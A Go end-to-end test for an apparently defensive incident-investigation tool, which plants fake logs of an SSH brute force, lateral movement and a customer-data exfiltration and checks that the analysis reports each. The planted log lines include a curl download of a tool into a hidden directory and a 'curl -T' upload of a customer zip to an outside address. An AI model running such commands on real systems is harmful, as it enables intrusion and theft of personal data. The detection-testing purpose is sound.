package agent

import (
	"archive/zip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mamori-dev/mamori/internal/incident"
	"github.com/mamori-dev/mamori/internal/investigate"
	"github.com/mamori-dev/mamori/internal/server"
	"github.com/mamori-dev/mamori/internal/testutil"
)

// TestCollectionEndToEnd is the investigation scenario on loopback: host A
// is brute-forced over SSH from outside and a tool is dropped; B is then
// logged into from A; on B a folder of customer CSVs is zipped and sent
// out with curl. After a collection and an analysis the findings name A's
// entry, the A → B movement with its account, and the zip with its CSVs.
func TestCollectionEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end fleet test")
	}
	t.Parallel()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	l := testutil.Listener(t, testutil.ListenerFile(t))
	srv, err := server.New(ctx, server.Config{DataDir: t.TempDir(), Listen: l.Addr().String(), Listener: l, Heartbeat: time.Second,
		Capabilities: []server.CapabilityFunc{incident.Capability, investigate.Capability}})
	if err == nil {
		err = srv.Listen()
	}
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- srv.Serve(ctx) }()
	defer func() { cancel(); <-done }()
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(srv.CAPEM())
	f := &fleet{t: t, url: srv.URL(), admin: srv.AdminToken(), enroll: srv.EnrollToken(), roots: roots,
		api: &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots}}}}

	// Syslog lines carry no year: the files' dates put them in 2026.
	logDate := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)
	write := func(path, content string) string {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		plant(t, path, content)
		if err := os.Chtimes(path, logDate, logDate); err != nil {
			t.Fatal(err)
		}
		return path
	}
	dirA, dirB := t.TempDir(), t.TempDir()
	var authA strings.Builder
	for i := range 8 {
		fmt.Fprintf(&authA, "Nov 20 03:1%d:0%d web-01 sshd[41%d]: Failed password for root from 203.0.113.66 port 5%d122 ssh2\n", i, i, i, i)
	}
	authA.WriteString("Nov 20 03:19:30 web-01 sshd[4200]: Accepted password for deploy from 203.0.113.66 port 51999 ssh2\n")
	authA.WriteString("Nov 20 03:25:00 web-01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.x/agent http://203.0.113.66/a\n")
	logA := write(filepath.Join(dirA, "log", "auth.log"), authA.String())
	logB := write(filepath.Join(dirB, "log", "auth.log"),
		"Nov 20 03:40:12 db-02 sshd[900]: Accepted publickey for deploy from 10.20.0.11 port 40222 ssh2\n")

	share := filepath.Join(dirB, "share")
	var members []string
	for _, name := range []string{"2024.csv", "2025.csv", "vip.csv"} {
		p := filepath.Join(share, "customers", name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		plant(t, p, "name,email\nYamada Taro,taro@example.jp\n")
		members = append(members, "customers/"+name)
	}
	zipPath := filepath.Join(share, "c.zip")
	zf, err := os.Create(zipPath)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(zf)
	for _, m := range members {
		w, _ := zw.Create(m)
		w.Write([]byte("name,email\n"))
	}
	zw.Close()
	zf.Close()
	// Made a minute before it was sent (history times have whole seconds).
	if err := os.Chtimes(zipPath, time.Now().Add(-time.Minute), time.Now().Add(-time.Minute)); err != nil {
		t.Fatal(err)
	}
	sent := time.Now()
	histB := write(filepath.Join(dirB, "log", "bash_history"), fmt.Sprintf("#%d\ncurl -T %s https://198.51.100.9/upload\n", sent.Unix(), zipPath))

	start := func(name, addr string, logs []string, scan string) *testAgent {
		actx, acancel := context.WithCancel(context.Background())
		a, err := New(actx, Config{ServerURL: f.url, Roots: roots, EnrollToken: f.enroll, DataDir: t.TempDir(), Name: name,
			Labels: map[string]string{"addrs": addr}, ScanPaths: []string{scan}, LogPaths: logs, Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))})
		if err != nil {
			acancel()
			t.Fatal(err)
		}
		a.procRoot, a.fsRoot = t.TempDir(), t.TempDir()
		ta := &testAgent{a: a, cancel: acancel, done: make(chan struct{}), scan: scan}
		go func() { defer close(ta.done); a.Run(actx) }()
		t.Cleanup(ta.stop)
		return ta
	}
	a := start("web-01", "10.20.0.11", []string{logA}, filepath.Join(dirA, "empty"))
	b := start("db-02", "10.20.0.12", []string{logB, histB}, share)
	testutil.Eventually(t, "both agents online", func() bool {
		hs := f.hosts()
		return hs["web-01"].Online && hs["db-02"].Online
	})

	var inc incident.IncidentView
	f.call("POST", "/incidents", map[string]any{"title": "web-01 compromise", "hosts": []string{a.a.ID(), b.a.ID()}, "reason": "brute force alert"}, &inc)
	var col server.CollectionView
	f.call("POST", "/incidents/"+inc.ID+"/collect", map[string]any{"from": "2026-11-20T00:00:00Z", "reason": "scope the intrusion"}, &col)
	testutil.Eventually(t, "the collection done on both hosts", func() bool {
		var cs []server.CollectionView
		f.call("GET", "/incidents/"+inc.ID+"/collections", nil, &cs)
		return len(cs) == 1 && cs[0].State == "done"
	})

	var page investigate.Page
	f.call("GET", "/incidents/"+inc.ID+"/timeline?limit=10000", nil, &page)
	if !slices.IsSortedFunc(page.Events, func(x, y investigate.EventView) int { return x.Time.Compare(y.Time) }) {
		t.Error("timeline not in time order")
	}
	var kinds []string
	for _, e := range page.Events {
		kinds = append(kinds, e.Kind)
	}
	for _, k := range []string{"logon_failed", "logon", "process", "archive", "file", "command"} {
		if !slices.Contains(kinds, k) {
			t.Errorf("timeline has no %s event; kinds %v", k, kinds)
		}
	}

	var fs []investigate.FindingView
	f.call("POST", "/incidents/"+inc.ID+"/analyze", map[string]any{"reason": "first pass"}, &fs)
	got := map[string]investigate.FindingView{}
	for _, x := range fs {
		got[x.Kind+"/"+x.Rule] = x
	}
	if e, ok := got["entry_vector/brute_force_then_success"]; !ok || e.Host != a.a.ID() || !e.Overall || e.State != "proposed" {
		t.Errorf("entry vector: %+v (all: %+v)", e, fs)
	}
	if m, ok := got["lateral_movement/remote_logon"]; !ok || m.From != a.a.ID() || m.To != b.a.ID() || m.Account != "deploy" {
		t.Errorf("lateral movement: %+v", m)
	}
	x, ok := got["exfiltration/transfer_tool"]
	if !ok {
		t.Fatalf("no exfiltration finding in %+v", fs)
	}
	for _, want := range []string{zipPath, zipPath + "!customers/2024.csv", zipPath + "!customers/vip.csv"} {
		if !slices.Contains(x.Files, want) {
			t.Errorf("exfiltration files %v lack %s", x.Files, want)
		}
	}

	// A person confirms the entry vector; a second analysis keeps that.
	var dec investigate.FindingView
	f.call("POST", "/incidents/"+inc.ID+"/findings/"+got["entry_vector/brute_force_then_success"].ID, map[string]any{"state": "confirmed", "reason": "matches the firewall log"}, &dec)
	f.call("POST", "/incidents/"+inc.ID+"/analyze", map[string]any{"reason": "second pass"}, &fs)
	for _, x := range fs {
		if x.ID == dec.ID && x.State != "confirmed" {
			t.Errorf("re-analysis lost the decision: %+v", x)
		}
	}
}
